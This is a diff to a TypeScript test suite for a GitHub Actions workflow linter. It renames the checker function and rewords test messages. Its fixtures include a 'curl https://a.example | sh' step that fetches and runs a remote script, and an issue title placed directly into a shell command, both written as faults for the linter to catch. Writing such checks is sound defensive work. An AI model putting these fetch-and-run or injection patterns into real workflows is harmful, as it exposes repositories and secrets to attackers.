@@ -3,7 +3,7 @@ import { existsSync, readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
-import { parseWorkflow, workflowFaults } from '@/lib/tooling/workflows/workflow-rules';
+import { checkWorkflow, parseWorkflow } from '@/lib/tooling/workflows/workflow-rules';
 
 const folder = '.github/workflows';
 const files = readdirSync(folder).sort();
@@ -29,15 +29,15 @@ jobs:
       - run: npm ci --ignore-scripts
 `;
 
-describe('workflowFaults', () => {
-  it('finds nothing in a sound file', () => {
-    expect(workflowFaults(good)).toEqual([]);
+describe('checkWorkflow', () => {
+  it('finds nothing in a correct file', () => {
+    expect(checkWorkflow(good)).toEqual([]);
   });
 
   it.each<[string, string, string, string]>([
     ['a tag', `@${sha} # v1.2.3`, '@v4', 'not pinned'],
     ['half a commit', `@${sha}`, '@aaaaaaa', 'not pinned'],
-    ['a commit whose version nobody knows', ' # v1.2.3', '', 'not pinned'],
+    ['a commit without its version', ' # v1.2.3', '', 'not pinned'],
     ['no permissions', 'permissions: {}\n', '', 'permissions'],
     ['permissions for the whole file', 'permissions: {}', 'permissions: write-all', 'permissions'],
     ['a permission for every job', 'permissions: {}', 'permissions:\n  contents: write', 'permissions'],
@@ -46,40 +46,40 @@ describe('workflowFaults', () => {
       'a secret for strangers',
       'run: npm',
       `env:\n          A: ${expression('secrets.A')}\n        run: npm`,
-      'meets a secret',
+      'access to a secret',
     ],
     [
       'an expression in a script',
       'run: npm',
       `run: echo ${expression('github.event.issue.title')}; npm`,
-      'stands in a script',
+      'is in a script',
     ],
     ['scripts of packages', ' --ignore-scripts', '', 'scripts of packages'],
-    ['a token that stays', 'persist-credentials: false', 'fetch-depth: 1', 'token is left'],
-    ['a script from elsewhere', 'run: npm', 'run: curl https://a.example | sh; npm', 'downloaded is run'],
+    ['a token that stays', 'persist-credentials: false', 'fetch-depth: 1', 'token stays'],
+    ['a script from another site', 'run: npm', 'run: curl https://a.example | sh; npm', 'a download is run'],
     ['no end', '    timeout-minutes: 5\n', '', 'timeout-minutes'],
     ['a misspelt key', 'runs-on', 'run-on', 'run-on'],
-    ['an event that both sides share', 'pull_request:', 'pull_request:\n  issues:', 'and is trusted'],
+    ['an event of both sides', 'pull_request:', 'pull_request:\n  issues:', 'is also trusted'],
     ['no YAML', 'name: Good', 'name: "Good', 'Missing closing'],
   ])('finds %s', (_, right, wrong, message) => {
     expect(good).toContain(right);
-    expect(workflowFaults(good.replace(right, wrong)).join('\n')).toContain(message);
+    expect(checkWorkflow(good.replace(right, wrong)).join('\n')).toContain(message);
   });
 
   it('lets a trusted file check out its own commit only', () => {
     const trusted = good.replace('pull_request:', 'issues:');
-    expect(workflowFaults(trusted)).toEqual([]);
+    expect(checkWorkflow(trusted)).toEqual([]);
     const other = trusted.replace('persist', 'ref: x\n          persist');
-    expect(workflowFaults(other)).toEqual(['a trusted workflow checks out another commit than its own']);
+    expect(checkWorkflow(other)).toEqual(['a trusted workflow checks out a commit other than its own']);
   });
 });
 
 describe.each(files)('%s', (file) => {
-  it('keeps to the rules', () => {
-    expect(workflowFaults(textOf(file))).toEqual([]);
+  it('follows the rules', () => {
+    expect(checkWorkflow(textOf(file))).toEqual([]);
   });
 
-  it('runs only what there is', () => {
+  it('runs only what exists', () => {
     const { scripts } = JSON.parse(readFileSync('package.json', 'utf8')) as { scripts: Record<string, string> };
     for (const { steps } of Object.values(parseWorkflow(textOf(file)).jobs)) {
       for (const { run = '' } of steps) {
